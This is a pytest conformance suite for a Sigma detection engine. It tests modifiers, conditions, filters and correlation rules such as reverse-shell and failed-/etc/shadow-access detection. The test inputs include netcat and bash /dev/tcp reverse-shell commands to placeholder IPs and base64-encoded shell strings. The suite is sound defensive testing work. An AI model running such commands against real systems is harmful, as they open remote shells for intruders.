"""Sigma conformance: every value modifier, condition form, filters and correlation type.

The rules are in tests/sigma_conformance/*.yml (our own); each test feeds crafted SigmaEvents
through the Engine and asserts which rules fire and which do not.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from probewatch.detect.engine import Engine, RuleSet
from probewatch.detect.model import SigmaEvent

SIGMA = Path(__file__).resolve().parent.parent / "sigma_conformance"
S = 1_000_000_000  # ns


@pytest.fixture(scope="module")
def ruleset() -> RuleSet:
    files = [SIGMA / n for n in ("modifiers.yml", "conditions.yml", "unsupported.yml")]
    return RuleSet.load(files, default=False, placeholders={"shells": ["*/sh", "*/bash"]})


@pytest.fixture(scope="module")
def engine(ruleset: RuleSet) -> Engine:
    return Engine(ruleset)


def fired(engine: Engine, kind: str, **fields: Any) -> set[str]:
    return {m.rule.name or m.rule.id for m in engine.process(SigmaEvent(kind, 1, 1, fields))}


def check(engine: Engine, name: str, kind: str, yes: list[dict[str, Any]],
          no: list[dict[str, Any]]) -> None:
    for f in yes:
        assert name in fired(engine, kind, **f), f"{name} should match {f}"
    for f in no:
        assert name not in fired(engine, kind, **f), f"{name} should not match {f}"


PC = "process_creation"


def test_every_conformance_rule_loads(ruleset: RuleSet) -> None:
    names = {r.name for r in ruleset.rules}
    assert {"plain_eq", "wildcards", "cidr", "fieldref", "keywords", "expand_defined",
            "nested_parentheses"} <= names
    assert not [p for p in ruleset.report if "modifiers.yml" in str(p.path)
                or "conditions.yml" in str(p.path)]


def test_equality_is_case_insensitive(engine: Engine) -> None:
    check(engine, "plain_eq", PC, [{"Image": "/usr/bin/id"}, {"Image": "/USR/BIN/ID"}],
          [{"Image": "/usr/bin/idx"}, {"Image": "/usr/bin/i"}, {}, {"Image": None}])


def test_wildcards(engine: Engine) -> None:
    check(engine, "wildcards", PC,
          [{"Image": "/usr/bin/python3"}, {"Image": "/usr/local/lib/pyXhon3"}],
          [{"Image": "/usr/bin/python33"}, {"Image": "/opt/bin/python3"},
           {"Image": "/usr/bin/pyhon3"}])
    check(engine, "escaped_wildcard", PC, [{"CommandLine": "echo *"}],
          [{"CommandLine": "echo x"}, {"CommandLine": "echo *x"}])


def test_contains_startswith_endswith(engine: Engine) -> None:
    base = {"Image": "/usr/bin/curl", "CommandLine": "curl HTTP://x", "CurrentDirectory": "/tmp/a"}
    check(engine, "cse", PC, [base, {**base, "Image": "/bin/wget"}],
          [{**base, "Image": "/usr/bin/curlx"}, {**base, "CommandLine": "curl ftp://x"},
           {**base, "CurrentDirectory": "/home/tmp"}])


def test_contains_all(engine: Engine) -> None:
    check(engine, "contains_all", PC, [{"CommandLine": "t -y 1 -x 2"}],
          [{"CommandLine": "t -x 2"}, {"CommandLine": "t -y 1"}])


def test_many_contains_merge_into_one_regex(engine: Engine) -> None:
    check(engine, "many_contains", PC, [{"CommandLine": "..FFF.."}, {"CommandLine": "aaa"}],
          [{"CommandLine": "ab"}])


def test_cased(engine: Engine) -> None:
    check(engine, "cased", PC, [{"CommandLine": "x SECRET y"}],
          [{"CommandLine": "x secret y"}, {"CommandLine": "x Secret y"}])


def test_regex_and_flags(engine: Engine) -> None:
    check(engine, "regex", PC, [{"CommandLine": "nc -e /bin/sh 1.2.3.4 9"}],
          [{"CommandLine": "NC -E /bin/sh"}, {"CommandLine": "ncat -e x"}])
    check(engine, "regex_i", PC, [{"CommandLine": "echo x | base64  -d"}],
          [{"CommandLine": "base64 --decode"}])
    check(engine, "regex_m", PC, [{"CommandLine": "first\nsecond\nthird"}],
          [{"CommandLine": "first second"}])
    check(engine, "regex_s", PC, [{"CommandLine": "a\nb"}, {"CommandLine": "axb"}],
          [{"CommandLine": "ab"}])


def test_cidr(engine: Engine) -> None:
    nc = "network_connection"
    check(engine, "cidr", nc,
          [{"DestinationIp": "10.1.2.3"}, {"DestinationIp": "fd12::1"},
           {"DestinationIp": "::ffff:10.0.0.1"}],
          [{"DestinationIp": "11.0.0.1"}, {"DestinationIp": "fe80::1"},
           {"DestinationIp": "not an ip"}, {"DestinationIp": None}])


def test_base64_and_base64offset(engine: Engine) -> None:
    import base64

    check(engine, "base64", PC,
          [{"CommandLine": "echo " + base64.b64encode(b"id;ls").decode() + " | base64 -d"}],
          [{"CommandLine": "echo id; | base64 -d"}])
    yes = [{"CommandLine": "echo " + base64.b64encode(pre + b"/bin/sh -i").decode()}
           for pre in (b"", b"x", b"xy")]
    check(engine, "base64offset", PC, yes, [{"CommandLine": "echo /bin/sh"}])


def test_windash(engine: Engine) -> None:
    check(engine, "windash", PC,
          [{"CommandLine": "nc -e sh"}, {"CommandLine": "nc /e sh"},
           {"CommandLine": "nc \u2013e sh"}],
          [{"CommandLine": "nc e sh"}])


def test_exists(engine: Engine) -> None:
    check(engine, "exists", PC, [{"LD_PRELOAD": "/tmp/x.so"}],
          [{}, {"LD_PRELOAD": "/tmp/x.so", "ContainerId": "ab" * 32}])


def test_fieldref(engine: Engine) -> None:
    check(engine, "fieldref", PC, [{"Image": "/bin/bash", "ParentImage": "/BIN/BASH"}],
          [{"Image": "/bin/bash", "ParentImage": "/bin/sh"}, {"Image": "/bin/bash"}])
    check(engine, "fieldref_endswith", PC, [{"Image": "/usr/bin/top", "Comm": "top"}],
          [{"Image": "/usr/bin/top", "Comm": "kworker"}])
    check(engine, "fieldref_contains", PC, [{"CommandLine": "x ./evil y", "Argv0": "./evil"}],
          [{"CommandLine": "x y", "Argv0": "./evil"}])


def test_numeric_comparisons(engine: Engine) -> None:
    nc = "network_connection"
    base = {"DestinationPort": 4444, "Uid": 1000, "Euid": 0}
    check(engine, "compare", nc,
          [base, {**base, "DestinationPort": "1024"}, {**base, "Uid": "1001"}],
          [{**base, "DestinationPort": 1023}, {**base, "DestinationPort": 4445},
           {**base, "Uid": 999}, {**base, "Euid": 1000}, {**base, "DestinationPort": "x"},
           {"Uid": 1000, "Euid": 0}])


def test_int_fields_and_numeric_strings(engine: Engine) -> None:
    check(engine, "numbers", PC,
          [{"LogonId": 4294967295, "Uid": 0}, {"LogonId": "4294967295", "Uid": "0"}],
          [{"LogonId": 1000, "Uid": 0}, {"LogonId": 4294967295, "Uid": 1}])


def test_null(engine: Engine) -> None:
    check(engine, "null_value", PC,
          [{"Image": "/bin/sh"}, {"Image": "/bin/sh", "ParentCommandLine": None},
           {"Image": "/bin/sh", "ParentCommandLine": ""}],
          [{"Image": "/bin/sh", "ParentCommandLine": "bash"}])


def test_keywords_match_any_string_field(engine: Engine) -> None:
    check(engine, "keywords", PC,
          [{"CommandLine": "bash -c 'cat </dev/tcp/1.2.3.4/80'"},
           {"ParentCommandLine": "BASH -I"}, {"Argv": ["x", "bash -i"]}],
          [{"CommandLine": "bash -c ls"}, {"Uid": 0}])


def test_list_fields_match_any_element(engine: Engine) -> None:
    check(engine, "list_field", "syscall",
          [{"Syscall": "execve", "argv": ["nc", "-e", "/bin/sh"]},
           {"Syscall": "execve", "argv": "x -e"}],
          [{"Syscall": "execve", "argv": ["nc", "-l"]}, {"Syscall": "execve", "argv": []},
           {"Syscall": "execveat", "argv": ["-e"]}])


def test_booleans(engine: Engine) -> None:
    check(engine, "boolean", "file_event",
          [{"TargetFilename": "/etc/shadow", "Success": False},
           {"TargetFilename": "/etc/shadow", "Success": "false"}],
          [{"TargetFilename": "/etc/shadow", "Success": True},
           {"TargetFilename": "/etc/shadow"}])


def test_neq_modifier(engine: Engine) -> None:
    check(engine, "negated_value", PC, [{"Image": "/usr/bin/sudo", "User": "bob"}],
          [{"Image": "/usr/bin/sudo", "User": "root"}])


def test_expand_with_defined_placeholder(engine: Engine) -> None:
    check(engine, "expand_defined", PC, [{"Image": "/bin/sh"}, {"Image": "/usr/bin/bash"}],
          [{"Image": "/usr/bin/zsh"}])


def test_unsupported_rules_are_reported_with_reasons(ruleset: RuleSet) -> None:
    rep = {p.rule_id: p for p in ruleset.report}
    assert not rep["wide"].runs and "modifier wide" in rep["wide"].reason
    assert "modifier utf16" in rep["utf16"].reason
    assert "modifier minute" in rep["timestamp_part"].reason
    assert "%undefined_list%" in rep["expand_undefined"].reason
    assert rep["sshd"].reason == "logsource service sshd: no event source"
    assert "product windows" in rep["windows"].reason
    assert not rep["unknown_field"].runs and "OriginalFileName" in rep["unknown_field"].reason
    # the other branch of the `or` can still match: a warning, the rule runs
    assert rep["unknown_field_or"].runs
    names = {r.name for r in ruleset.rules}
    assert "unknown_field_or" in names and not {"wide", "sshd", "unknown_field"} & names
    for p in ruleset.report:
        assert p.path and p.path.endswith("unsupported.yml") and p.line and p.line > 1
    # the line of a field problem is the line of the detection item
    text = (SIGMA / "unsupported.yml").read_text().splitlines()
    assert "wide" in text[rep["wide"].line - 1]
    assert "OriginalFileName" in text[rep["unknown_field"].line - 1]


# --- conditions --------------------------------------------------------------------


def test_and_or_not_with_parentheses(engine: Engine) -> None:
    check(engine, "and_or_not", PC, [{"Image": "/a", "User": "bob"}, {"Image": "/b"}],
          [{"Image": "/a", "User": "root"}, {"Image": "/c", "User": "bob"}])


def test_one_of_and_all_of_patterns(engine: Engine) -> None:
    check(engine, "one_of_pattern", PC, [{"CommandLine": "xx"}, {"CommandLine": "yy"}],
          [{"CommandLine": "zz"}])
    check(engine, "all_of_pattern", PC, [{"CommandLine": "xx yy"}],
          [{"CommandLine": "xx"}, {"CommandLine": "xx yy zz"}])


def test_one_of_them_and_all_of_them(engine: Engine) -> None:
    check(engine, "one_of_them", PC, [{"CommandLine": "pp"}, {"CommandLine": "qq"}],
          [{"CommandLine": "p q"}])
    check(engine, "all_of_them", PC, [{"CommandLine": "qq pp"}], [{"CommandLine": "pp"}])


def test_not_one_of_filters(engine: Engine) -> None:
    check(engine, "not_one_of_filters", PC, [{"Image": "/usr/bin/crontab", "User": "bob"}],
          [{"Image": "/usr/bin/crontab", "User": "root"},
           {"Image": "/usr/bin/crontab", "User": "bob", "CommandLine": "crontab -l"}])


def test_list_of_maps_is_or_of_ands(engine: Engine) -> None:
    check(engine, "list_of_maps", PC,
          [{"Image": "/a", "User": "alice"}, {"Image": "/b", "User": "bob"}],
          [{"Image": "/a", "User": "bob"}])


def test_condition_list_is_or(engine: Engine) -> None:
    check(engine, "condition_list", PC, [{"Image": "/one"}, {"Image": "/two"}],
          [{"Image": "/three"}])


def test_nested_parentheses_on_syscalls(engine: Engine) -> None:
    check(engine, "nested_parentheses", "syscall",
          [{"Syscall": "ptrace", "request": "PTRACE_ATTACH", "Comm": "evil"},
           {"Syscall": "process_vm_writev", "Comm": "evil"}],
          [{"Syscall": "ptrace", "request": "PTRACE_ATTACH", "Comm": "gdb"},
           {"Syscall": "ptrace", "request": "PTRACE_TRACEME", "Comm": "evil"},
           {"Syscall": "openat", "request": "PTRACE_ATTACH"}])


def test_kind_must_match(engine: Engine) -> None:
    assert "plain_eq" not in fired(engine, "file_event", Image="/usr/bin/id")


# --- filters -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def filtered() -> RuleSet:
    return RuleSet.load([SIGMA / "filtered.yml"], default=False, filters=[SIGMA / "site_filters"])


def test_filters_apply_to_the_rules_they_name(filtered: RuleSet) -> None:
    e = Engine(filtered)
    names = {r.name: r for r in filtered.rules}
    assert names["crontab_edit"].filters == ["crontab_admins", "ci_runner"]
    assert names["passwd_change"].filters == ["ci_runner"]
    assert names["shadow_write"].filters == []  # other logsource
    assert "crontab_edit" in fired(e, PC, Image="/usr/bin/crontab", User="bob")
    assert "crontab_edit" not in fired(e, PC, Image="/usr/bin/crontab", User="root")
    # `rules: any` applies to every rule of the logsource
    assert "passwd_change" in fired(e, PC, Image="/usr/bin/passwd", User="root")
    assert not fired(e, PC, Image="/usr/bin/passwd", ParentImage="/opt/gitlab-runner")
    assert "shadow_write" in fired(e, "file_event", TargetFilename="/etc/shadow",
                                   ParentImage="/opt/gitlab-runner")


def test_filter_naming_a_missing_rule_is_reported(filtered: RuleSet) -> None:
    probs = [p for p in filtered.report if p.rule_id == "missing_target"]
    assert len(probs) == 1
    assert "no_such_rule" in probs[0].reason and probs[0].path.endswith("site.yml")


def test_rules_without_filters_are_unchanged() -> None:
    rs = RuleSet.load([SIGMA / "filtered.yml"], default=False)
    assert "crontab_edit" in fired(Engine(rs), PC, Image="/usr/bin/crontab", User="root")


# --- correlations ----------------------------------------------------------------------


@pytest.fixture()
def corr() -> Engine:
    rs = RuleSet.load([SIGMA / "correlations.yml"], default=False)
    assert not rs.report, [str(p) for p in rs.report]
    return Engine(rs)


def feed(e: Engine, kind: str, t: float, **fields: Any) -> list[str]:
    return [m.rule.name or m.rule.id
            for m in e.process(SigmaEvent(kind, int(t * S), fields.get("ProcessId", 1), fields))]


def test_event_count_with_group_by(corr: Engine) -> None:
    ev = {"Syscall": "openat", "filename": "/etc/shadow", "Success": False}
    assert feed(corr, "syscall", 0, User="bob", **ev) == []
    assert feed(corr, "syscall", 1, User="bob", **ev) == []
    assert feed(corr, "syscall", 2, User="eve", **ev) == []  # another group
    assert feed(corr, "syscall", 3, User="bob", **ev) == ["shadow_fail_burst"]
    # the group started over once it fired
    assert feed(corr, "syscall", 4, User="bob", **ev) == []
    # outside the timespan the old events no longer count
    assert feed(corr, "syscall", 20, User="eve", **ev) == []
    assert feed(corr, "syscall", 21, User="eve", **ev) == []
    assert feed(corr, "syscall", 40, User="eve", **ev) == []


def test_event_count_match_carries_group_count_and_events(corr: Engine) -> None:
    ev = {"Syscall": "openat", "filename": "/etc/shadow", "Success": False}
    out = []
    for t in (0, 1, 2):
        out += corr.process(SigmaEvent("syscall", t * S, 5, {"User": "bob", **ev}))
    assert len(out) == 1
    m = out[0]
    assert m.group == {"User": "bob"} and m.count == 3 and len(m.events) == 3
    assert [e.ts for e in m.events] == [0, S, 2 * S]
    assert m.rule.level == "high"


def test_base_rules_of_a_correlation_do_not_generate(corr: Engine) -> None:
    ev = {"Syscall": "openat", "filename": "/etc/shadow", "Success": False, "User": "x"}
    assert feed(corr, "syscall", 0, **ev) == []  # shadow_fail itself stays silent


def test_value_count(corr: Engine) -> None:
    assert feed(corr, PC, 0, Image="/usr/bin/id", ParentProcessId=10) == []
    assert feed(corr, PC, 1, Image="/usr/bin/id", ParentProcessId=10) == []  # same value
    assert feed(corr, PC, 2, Image="/usr/bin/uname", ParentProcessId=10) == []
    assert feed(corr, PC, 3, Image="/usr/bin/uname", ParentProcessId=11) == []
    assert feed(corr, PC, 4, Image="/bin/ps", ParentProcessId=10) == ["discovery_burst"]


def test_temporal_reverse_shell(corr: Engine) -> None:
    pid = 4242
    assert feed(corr, "network_connection", 0, ProcessId=pid, Initiated="true") == []
    assert feed(corr, "syscall", 0.1, ProcessId=pid, Syscall="dup2", newfd=0) == []
    assert feed(corr, "process_creation", 0.2, ProcessId=999, Image="/bin/sh") == []
    assert feed(corr, "process_creation", 0.3, ProcessId=pid, Image="/bin/sh") == [
        "reverse_shell"]
    m = corr.process(SigmaEvent("network_connection", int(10 * S), 7,
                                {"ProcessId": 7, "Initiated": "true"}))
    assert m == []


def test_temporal_outside_timespan(corr: Engine) -> None:
    pid = 77
    assert feed(corr, "network_connection", 0, ProcessId=pid, Initiated="true") == []
    assert feed(corr, "syscall", 1, ProcessId=pid, Syscall="dup3", newfd=1) == []
    assert feed(corr, "process_creation", 9, ProcessId=pid, Image="/bin/bash") == []


def test_temporal_ordered(corr: Engine) -> None:
    # wrong order: chmod before download
    assert feed(corr, PC, 0, ParentProcessId=5, Image="/bin/chmod", CommandLine="chmod +x a") == []
    assert feed(corr, PC, 1, ParentProcessId=5, Image="/usr/bin/curl") == []
    assert feed(corr, PC, 2, ParentProcessId=6, Image="/bin/chmod", CommandLine="chmod +x a") == []
    assert feed(corr, PC, 3, ParentProcessId=5, Image="/bin/chmod",
                CommandLine="chmod +x a") == ["download_then_chmod"]


def test_event_count_lt_is_decided_when_the_window_closes(corr: Engine) -> None:
    assert feed(corr, PC, 0, Image="/usr/sbin/heartbeat") == []
    assert feed(corr, PC, 3, Image="/usr/sbin/heartbeat") == []
    # next window: the previous one (2 events) is not "fewer than 2"
    assert feed(corr, PC, 11, Image="/usr/sbin/heartbeat") == []
    # the window 11..21 had one event: fires when an event past its end arrives
    assert feed(corr, PC, 30, Image="/usr/sbin/heartbeat") == ["too_few_heartbeats"]
    flushed = [m.rule.name for m in corr.flush()]
    assert flushed == ["too_few_heartbeats"]


def test_extended_temporal_with_not(corr: Engine) -> None:
    nc = "network_connection"
    assert feed(corr, nc, 0, ProcessId=1, Protocol="tcp", DestinationPort=80) == []
    assert feed(corr, nc, 0, ProcessId=2, Protocol="tcp", DestinationPort=443) == []
    # windows close once time passes them: process 1 never used port 443
    assert feed(corr, nc, 30, ProcessId=3, Protocol="udp", DestinationPort=53) == [
        "extended_temporal"]
    assert [m.group for m in corr.flush()] == []


def test_value_sum(corr: Engine) -> None:
    assert feed(corr, "syscall", 0, ProcessId=1, Syscall="write", count=600) == []
    assert feed(corr, "syscall", 1, ProcessId=2, Syscall="write", count=600) == []
    assert feed(corr, "syscall", 2, ProcessId=1, Syscall="write", count=500) == ["lots_of_bytes"]


def test_aliases(corr: Engine) -> None:
    assert feed(corr, PC, 0, ProcessId=3, Image="/usr/bin/wget") == []
    assert feed(corr, "network_connection", 1, ProcessId=9, Fd=4, Initiated="true") == []
    assert feed(corr, "network_connection", 2, ProcessId=9, Fd=3, Initiated="true") == [
        "aliased"]


def test_correlation_state_is_bounded() -> None:
    rs = RuleSet.load([SIGMA / "correlations.yml"], default=False)
    e = Engine(rs, max_groups=100)
    ev = {"Syscall": "openat", "filename": "/etc/shadow", "Success": False}
    for i in range(1000):
        e.process(SigmaEvent("syscall", i, 1, {"User": f"u{i}", **ev}))
    c = e.correlators[rs.get("shadow_fail_burst").id]  # type: ignore[union-attr]
    assert len(c) == 100 and c.evicted == 900 and e.evicted >= 900
    # expired groups go as event time passes, without counting as evicted
    e.process(SigmaEvent("syscall", 60 * S, 1, {"User": "late", **ev}))
    assert len(c) == 1 and c.evicted == 900 and c.expired == 100


def test_correlation_problems_are_reported(tmp_path: Path) -> None:
    p = tmp_path / "c.yml"
    p.write_text("""
title: base
name: base
logsource: {product: linux, service: sshd}
detection: {k: [x], condition: k}
---
title: needs base
name: needs_base
correlation: {type: event_count, rules: [base], timespan: 1m, condition: {gte: 2}}
---
title: needs nothing
name: needs_missing
correlation: {type: event_count, rules: [missing], timespan: 1m, condition: {gte: 2}}
---
title: bad span
name: bad_span
correlation: {type: event_count, rules: [base], timespan: 5x, condition: {gte: 2}}
""")
    rs = RuleSet.load([p], default=False)
    rep = {r.rule_id: r for r in rs.report}
    assert "no event source" in rep["base"].reason
    assert "base, which cannot run" in rep["needs_base"].reason
    assert "missing, which is not loaded" in rep["needs_missing"].reason
    assert "Timespan" in rep["bad_span"].reason and rep["bad_span"].line == 17
    assert rs.rules == []


def test_generate_true_keeps_the_base_rules_alerting(tmp_path: Path) -> None:
    p = tmp_path / "g.yml"
    p.write_text("""
title: su run
name: su_run
logsource: {category: process_creation, product: linux}
detection: {s: {Image|endswith: /su}, condition: s}
---
title: many su
name: many_su
correlation: {type: event_count, rules: [su_run], timespan: 1m, condition: {gte: 2},
              generate: true}
""")
    e = Engine(RuleSet.load([p], default=False))
    assert feed(e, PC, 0, Image="/bin/su") == ["su_run"]
    assert feed(e, PC, 1, Image="/bin/su") == ["su_run", "many_su"]


def test_min_level_still_evaluates_what_correlations_need() -> None:
    rs = RuleSet.load([SIGMA / "correlations.yml"], default=False)
    e = Engine(rs, min_level="high")
    ev = {"Syscall": "openat", "filename": "/etc/shadow", "Success": False, "User": "u"}
    # shadow_fail is `low`: silent itself, yet it feeds the `high` correlation
    assert [feed(e, "syscall", t, **ev) for t in (0, 1, 2)] == [[], [], ["shadow_fail_burst"]]
    # a `medium` correlation is not reported at min_level high
    for t, img in enumerate(["/usr/bin/id", "/usr/bin/uname", "/bin/ps"]):
        assert feed(e, PC, 10 + t, Image=img, ParentProcessId=1) == []


def test_closed_windows_end_one_timespan_after_their_first_event(corr: Engine) -> None:
    assert feed(corr, PC, 0, Image="/usr/sbin/heartbeat") == []
    assert feed(corr, PC, 9, Image="/usr/sbin/heartbeat") == []  # 2 events: not < 2
    assert feed(corr, PC, 10.5, Image="/usr/sbin/heartbeat") == []  # closes 0..10, opens
    # any event (even one no rule matches) advances time: 10.5..20.5 had one event
    assert feed(corr, "syscall", 21, Syscall="getpid") == ["too_few_heartbeats"]
    assert corr.flush() == []
